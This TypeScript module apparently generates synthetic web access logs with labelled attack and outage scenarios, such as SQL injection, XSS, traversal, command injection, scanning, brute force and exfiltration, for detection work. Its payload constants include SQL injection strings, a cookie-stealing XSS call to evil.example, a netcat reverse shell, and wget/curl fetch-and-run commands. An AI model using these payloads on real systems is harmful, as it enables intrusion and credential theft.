import type { AccessRecord } from '../format/access-line.js';
import type { Pools } from '../pools/pools.js';
import type { Rng } from '../random/rng.js';
import { DB_ROUTE } from './site.js';

export const SCENARIOS = [
  'sql_injection',
  'xss',
  'path_traversal',
  'command_injection',
  'scanner',
  'brute_force',
  'credential_stuffing',
  'outage_5xx',
  'latency_spike',
  'exfiltration',
  'db_error_storm',
  'unusual_method',
  'disguised_scanner',
] as const;
export type Scenario = (typeof SCENARIOS)[number];
export type Label = 'normal' | Scenario;

/**
 * Scenarios off unless `weights` names them, so that the default traffic (and every file made from a seed before
 * they existed) stays the same.
 */
export const OFF_BY_DEFAULT: readonly Scenario[] = ['disguised_scanner'];

/** Scenarios that cover a time window: every line in the window carries the label. */
export const WINDOW_SCENARIOS: readonly Scenario[] = ['outage_5xx', 'latency_spike', 'db_error_storm'];

type Request = Omit<AccessRecord, 'ts'>;

/** How many requests each actor incident sends: [min, max]. */
export const ACTOR_REQUESTS: Partial<Record<Scenario, [number, number]>> = {
  sql_injection: [1, 6],
  xss: [1, 6],
  path_traversal: [1, 6],
  command_injection: [1, 6],
  scanner: [40, 200],
  brute_force: [20, 100],
  credential_stuffing: [30, 150],
  exfiltration: [2, 8],
  unusual_method: [1, 4],
  // One long burst: with `--anomaly-rate 0.05 --scenarios disguised_scanner=1` about 5% of a file.
  disguised_scanner: [900, 1100],
};

/** An incident that sends its own requests: one attacker (or a botnet) on its own clock. */
export interface Actor {
  readonly scenario: Scenario;
  nextAt: number;
  /** The request due at `nextAt`; advances `nextAt`. Undefined once the incident is over. */
  next(): Request | undefined;
}

/** An incident that changes the normal traffic inside [start, end). */
export interface Window {
  readonly scenario: Scenario;
  readonly start: number;
  readonly end: number;
  apply(r: Request): void;
}

const TOOL_AGENTS = {
  sqlmap: ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap/1.8#stable (https://sqlmap.org)'],
  scanner: [
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Mozilla/5.0 zgrab/0.x',
    'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'gobuster/3.6',
    'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
  ],
  scripted: [
    'python-requests/2.31.0',
    'curl/8.4.0',
    'Go-http-client/1.1',
    'okhttp/4.12.0',
    'Wget/1.21.4',
    'python-urllib3/2.0.7',
    'Hydra v9.4 (www.thc.org/thc-hydra)',
  ],
};

const SQLI = [
  ['/search', "q=1'+OR+'1'='1"],
  ['/search', 'q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--'],
  ['/api/users', 'id=1%20OR%201=1'],
  ['/api/users', "id=1'%20AND%20SLEEP(5)--"],
  ['/api/orders', 'sort=(CASE%20WHEN%201=1%20THEN%20SLEEP(3)%20ELSE%200%20END)'],
  ['/search', 'q=%27%3B%20DROP%20TABLE%20orders%3B--'],
  ['/products/1', "id=1'+AND+1=1+--+-"],
  ['/login', "user=admin'--&pass=x"],
  ['/search', 'q=1%22%20UNION%20ALL%20SELECT%20NULL,NULL,table_name%20FROM%20information_schema.tables--'],
] as const;

const XSS = [
  ['/search', 'q=<script>alert(1)</script>'],
  ['/search', 'q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'],
  ['/search', 'q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'],
  ['/products/7', 'ref=javascript:alert(1)'],
  ['/search', 'q=<svg/onload=alert(1)>'],
  ['/login', 'next=%3Ciframe%20src%3Djavascript%3Aalert(1)%3E'],
  ['/search', 'q=%3Cbody%20onload%3Dfetch(%27//evil.example/%27%2Bdocument.cookie)%3E'],
] as const;

const TRAVERSAL = [
  ['/static/../../../../etc/passwd', ''],
  ['/static/..%2f..%2f..%2f..%2fetc%2fpasswd', ''],
  ['/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow', ''],
  ['/download', 'file=../../../../etc/passwd'],
  ['/static/img/....//....//....//etc/hosts', ''],
  ['/..%5c..%5c..%5cwindows%5cwin.ini', ''],
  ['/static/..%252f..%252f..%252fproc%252fself%252fenviron', ''],
  ['/api/orders/export', 'path=..%2F..%2F..%2Fvar%2Flog%2Fauth.log'],
] as const;

const COMMAND = [
  ['/api/users', 'id=1%3Bcat%20%2Fetc%2Fpasswd'],
  ['/search', 'q=%24(whoami)'],
  ['/search', 'q=%60id%60'],
  ['/cgi-bin/status', 'cmd=%7Cnc%20-e%20%2Fbin%2Fsh%2010.0.0.1%204444'],
  ['/api/orders', 'host=127.0.0.1%3Bwget%20http%3A%2F%2F203.0.113.9%2Fx.sh%7Csh'],
  ['/ping', 'ip=127.0.0.1;id'],
  ['/search', 'q=test%26%26curl%20http%3A%2F%2F198.51.100.7%2Fshell.sh%7Cbash'],
] as const;

const SCAN_PATHS = [
  '/wp-login.php',
  '/wp-admin/',
  '/xmlrpc.php',
  '/.env',
  '/.git/config',
  '/.git/HEAD',
  '/phpmyadmin/',
  '/pma/',
  '/admin.php',
  '/administrator/',
  '/config.php.bak',
  '/backup.zip',
  '/backup.sql',
  '/db.sql',
  '/server-status',
  '/actuator/env',
  '/actuator/health',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/solr/admin/info/system',
  '/console/',
  '/manager/html',
  '/.aws/credentials',
  '/.DS_Store',
  '/web.config',
  '/cgi-bin/test-cgi',
  '/HNAP1/',
  '/boaform/admin/formLogin',
  '/owa/auth/logon.aspx',
  '/_ignition/execute-solution',
  '/api/v1/pods',
  '/jenkins/login',
  '/.svn/entries',
  '/info.php',
  '/phpinfo.php',
  '/test.php',
  '/shell.php',
  '/wp-content/plugins/',
  '/admin/config.yml',
  '/.htaccess',
  '/.htpasswd',
  '/old/',
  '/dev/',
  '/debug/default/view',
  '/telescope/requests',
  '/graphql',
  '/swagger.json',
];

/** CMS, admin, login and search endpoints of software the shop does not run: only a scanner asks for them. */
const CMS_ROUTES: readonly (readonly [string, string])[] = [
  ['/wp-login.php', 'log'],
  ['/wp-admin/admin-ajax.php', 'action'],
  ['/xmlrpc.php', ''],
  ['/wp-comments-post.php', 'comment'],
  ['/administrator/index.php', 'username'],
  ['/index.php/component/search/', 'searchword'],
  ['/joomla/administrator/', 'passwd'],
  ['/user/login', 'name'],
  ['/node/add/article', 'title'],
  ['/search/node', 'keys'],
  ['/typo3/index.php', 'username'],
  ['/umbraco/backoffice/UmbracoApi/Authentication/PostLogin', 'username'],
  ['/admin/login.php', 'user'],
  ['/admin/search.php', 'q'],
  ['/cms/login', 'email'],
  ['/cms/search', 'term'],
  ['/portal/login.do', 'j_username'],
  ['/ghost/api/admin/session', 'username'],
  ['/craft/index.php', 'p'],
  ['/concrete/index.php/login', 'uName'],
  ['/bitrix/admin/index.php', 'USER_LOGIN'],
  ['/magento/admin/', 'login'],
  ['/siteadmin/login.aspx', 'txtUser'],
  ['/moodle/login/index.php', 'username'],
  ['/phpbb/search.php', 'keywords'],
  ['/forum/login.php', 'vb_login_username'],
];
/** Values a scanner tries in a form or search field: the payloads of the attack scenarios, without their parameter name. */
const FORM_PAYLOADS = [...SQLI, ...XSS, ...COMMAND]
  .map(([, q]) => q.slice(q.indexOf('=') + 1))
  .filter((v) => v && !v.includes('&'));

const EXPORTS = [
  ['/api/orders', 'export=csv&limit=100000'],
  ['/api/users', 'export=all&fields=email,phone,address'],
  ['/api/orders', 'page=1&per_page=50000'],
  ['/api/users', 'limit=1000000'],
] as const;

const UNUSUAL_METHODS = [
  'PROPFIND',
  'TRACE',
  'TRACK',
  'DEBUG',
  'CONNECT',
  'MKCOL',
  'MOVE',
  'COPY',
  'LOCK',
  'UNLOCK',
  'SEARCH',
  'PURGE',
];
const UNUSUAL_PATHS = ['/', '/admin', '/api/users', '/webdav/', '/uploads/', '/static/', '/login'];

const int = (rng: Rng, median: number, sigma: number) => Math.max(1, Math.round(rng.logNormal(median, sigma)));

interface Burst {
  /** Seconds between requests: [min, max]. */
  gap: [number, number];
  request(i: number, count: number): Request;
}

function burstActor(scenario: Scenario, rng: Rng, start: number, burst: Burst): Actor {
  const [lo, hi] = ACTOR_REQUESTS[scenario]!;
  const count = rng.int(lo, hi);
  let i = 0;
  return {
    scenario,
    nextAt: start,
    next() {
      if (i >= count) return undefined;
      const r = burst.request(i++, count);
      this.nextAt += (burst.gap[0] + rng.next() * (burst.gap[1] - burst.gap[0])) * 1000;
      return r;
    },
  };
}

/** Attacks carried in the request itself: the path or the query gives them away. */
function payloadActor(
  scenario: Scenario,
  rng: Rng,
  pools: Pools,
  start: number,
  payloads: readonly (readonly [string, string])[],
  statuses: number[],
  agents: string[],
): Actor {
  const ip = rng.pick(pools.attackerIps);
  const ua = rng.pick(agents);
  return burstActor(scenario, rng, start, {
    gap: [0.3, 4],
    request: () => {
      const [path, query] = rng.pick(payloads);
      const status = rng.pick(statuses);
      const bytes = status === 200 ? int(rng, 9000, 0.5) : int(rng, 600, 0.3);
      return {
        ip,
        user: '-',
        method: path === '/login' && rng.chance(0.5) ? 'POST' : 'GET',
        path,
        query,
        status,
        bytes,
        referer: '-',
        ua,
        rt: rng.logNormal(status === 500 ? 0.4 : 0.05, 0.6),
      };
    },
  });
}

export function startActor(scenario: Scenario, rng: Rng, pools: Pools, start: number): Actor {
  const browserOr = (tools: string[], p: number) => (rng.chance(p) ? rng.pick(pools.browserAgents) : rng.pick(tools));
  switch (scenario) {
    case 'sql_injection':
      return payloadActor(
        scenario,
        rng,
        pools,
        start,
        SQLI,
        [200, 500, 500, 403],
        [...TOOL_AGENTS.sqlmap, ...TOOL_AGENTS.scripted.slice(0, 2), rng.pick(pools.browserAgents)],
      );
    case 'xss':
      return payloadActor(
        scenario,
        rng,
        pools,
        start,
        XSS,
        [200, 200, 400, 403],
        [rng.pick(pools.browserAgents), ...TOOL_AGENTS.scripted.slice(0, 2)],
      );
    case 'path_traversal':
      return payloadActor(
        scenario,
        rng,
        pools,
        start,
        TRAVERSAL,
        [400, 403, 404, 404],
        ['curl/8.4.0', 'DotDotPwn v3.0.2', rng.pick(pools.browserAgents)],
      );
    case 'command_injection':
      return payloadActor(
        scenario,
        rng,
        pools,
        start,
        COMMAND,
        [400, 500, 404, 200],
        [...TOOL_AGENTS.scripted, 'commix/v3.9-stable'],
      );
    case 'scanner': {
      const ip = rng.pick(pools.attackerIps);
      const ua = rng.pick(TOOL_AGENTS.scanner);
      return burstActor(scenario, rng, start, {
        gap: [0.02, 0.3],
        request: () => {
          const path = rng.pick(SCAN_PATHS);
          const status = rng.chance(0.88) ? 404 : rng.pick([403, 400, 301]);
          return {
            ip,
            user: '-',
            method: rng.chance(0.9) ? 'GET' : 'HEAD',
            path,
            query: '',
            status,
            bytes: int(rng, 1100, 0.1),
            referer: '-',
            ua,
            rt: rng.logNormal(0.004, 0.4),
          };
        },
      });
    }
    case 'disguised_scanner': {
      // A scanner disguised as a browser: one address, an ordinary browser user agent, a burst of POSTs and GETs to
      // CMS, admin, login and search routes no other client asks for, payloads in some query strings, and the
      // answers of an application that does not know them (303 redirects to a login page, 500s, some 404s).
      const ip = rng.pick(pools.attackerIps);
      const ua = rng.pick(pools.browserAgents);
      return burstActor(scenario, rng, start, {
        gap: [0.02, 0.3],
        request: () => {
          const [path, field] = rng.pick(CMS_ROUTES);
          const post = rng.chance(0.65);
          const query =
            !post && field && rng.chance(0.5) ? `${field}=${rng.chance(0.6) ? rng.pick(FORM_PAYLOADS) : 'test'}` : '';
          const status = rng.chance(0.45) ? 303 : rng.chance(0.5) ? 500 : rng.chance(0.6) ? 200 : 404;
          const bytes =
            status === 303 ? int(rng, 180, 0.1) : status === 500 ? int(rng, 650, 0.15) : int(rng, 3200, 0.4);
          return {
            ip,
            user: '-',
            method: post ? 'POST' : 'GET',
            path,
            query,
            status,
            bytes,
            referer: '-',
            ua,
            rt: rng.logNormal(status === 500 ? 0.3 : 0.02, 0.5),
          };
        },
      });
    }
    case 'brute_force': {
      const ip = rng.pick(pools.attackerIps);
      const ua = browserOr(TOOL_AGENTS.scripted, 0.3);
      return burstActor(scenario, rng, start, {
        gap: [0.2, 1.5],
        request: (i, count) => {
          const success = i === count - 1 && rng.chance(0.2);
          return {
            ip,
            user: '-',
            method: 'POST',
            path: '/login',
            query: '',
            status: success ? 302 : 401,
            bytes: success ? int(rng, 210, 0.05) : int(rng, 4400, 0.02),
            referer: '-',
            ua,
            rt: rng.logNormal(0.12, 0.3),
          };
        },
      });
    }
    case 'credential_stuffing':
      return burstActor(scenario, rng, start, {
        gap: [0.05, 0.5],
        request: () => {
          const status = rng.chance(0.88) ? 401 : rng.chance(0.8) ? 302 : 429;
          return {
            ip: rng.pick(pools.attackerIps),
            user: '-',
            method: 'POST',
            path: '/login',
            query: '',
            status,
            bytes: status === 302 ? int(rng, 210, 0.05) : int(rng, 4400, 0.02),
            referer: '-',
            ua: rng.pick(TOOL_AGENTS.scripted),
            rt: rng.logNormal(0.12, 0.3),
          };
        },
      });
    case 'exfiltration': {
      const ip = rng.pick(pools.clientIps);
      const ua = rng.pick(pools.browserAgents);
      return burstActor(scenario, rng, start, {
        gap: [5, 60],
        request: () => {
          const [path, query] = rng.pick(EXPORTS);
          const bytes = Math.max(30e6, Math.round(rng.logNormal(400e6, 0.8)));
          return {
            ip,
            user: '-',
            method: 'GET',
            path,
            query,
            status: 200,
            bytes,
            referer: `https://shop.example.com/admin`,
            ua,
            rt: bytes / rng.logNormal(4e6, 0.3),
          };
        },
      });
    }
    case 'unusual_method': {
      const ip = rng.pick(pools.attackerIps);
      const ua = rng.pick([...TOOL_AGENTS.scripted.slice(0, 2), TOOL_AGENTS.scanner[1]]);
      return burstActor(scenario, rng, start, {
        gap: [0.1, 2],
        request: () => {
          const method = rng.pick(UNUSUAL_METHODS);
          const status = method === 'TRACE' && rng.chance(0.3) ? 200 : rng.pick([405, 405, 405, 501, 400]);
          return {
            ip,
            user: '-',
            method,
            path: rng.pick(UNUSUAL_PATHS),
            query: '',
            status,
            bytes: int(rng, 300, 0.3),
            referer: '-',
            ua,
            rt: rng.logNormal(0.002, 0.4),
          };
        },
      });
    }
    default:
      throw new Error(`${scenario} is a window scenario, not an actor`);
  }
}

/** Window lengths in seconds: [min, max]. */
export const WINDOW_SECONDS: Record<string, [number, number]> = {
  outage_5xx: [10, 40],
  latency_spike: [15, 60],
  db_error_storm: [10, 30],
};

export function startWindow(scenario: Scenario, rng: Rng, start: number): Window {
  const [lo, hi] = WINDOW_SECONDS[scenario];
  const end = start + (lo + rng.next() * (hi - lo)) * 1000;
  switch (scenario) {
    case 'outage_5xx':
      return {
        scenario,
        start,
        end,
        apply(r) {
          if (rng.chance(0.04)) return;
          r.status = rng.chance(0.45) ? 503 : rng.chance(0.7) ? 502 : 504;
          r.bytes = int(rng, r.status === 503 ? 190 : 560, 0.1);
          r.rt = r.status === 504 ? rng.logNormal(45, 0.2) : rng.logNormal(r.status === 503 ? 0.002 : 0.2, 0.5);
        },
      };
    case 'latency_spike': {
      const factor = 15 + rng.next() * 65;
      return {
        scenario,
        start,
        end,
        apply(r) {
          if (rng.chance(0.05)) {
            r.status = 504;
            r.bytes = int(rng, 560, 0.1);
            r.rt = 60;
          } else r.rt = Math.max(1.5, r.rt * factor * rng.logNormal(1, 0.3));
        },
      };
    }
    case 'db_error_storm':
      return {
        scenario,
        start,
        end,
        apply(r) {
          if (!DB_ROUTE.test(r.path) || rng.chance(0.15)) return;
          r.status = 500;
          r.bytes = int(rng, 650, 0.15);
          r.rt = rng.logNormal(1.5, 0.6);
        },
      };
    default:
      throw new Error(`${scenario} is not a window scenario`);
  }
}
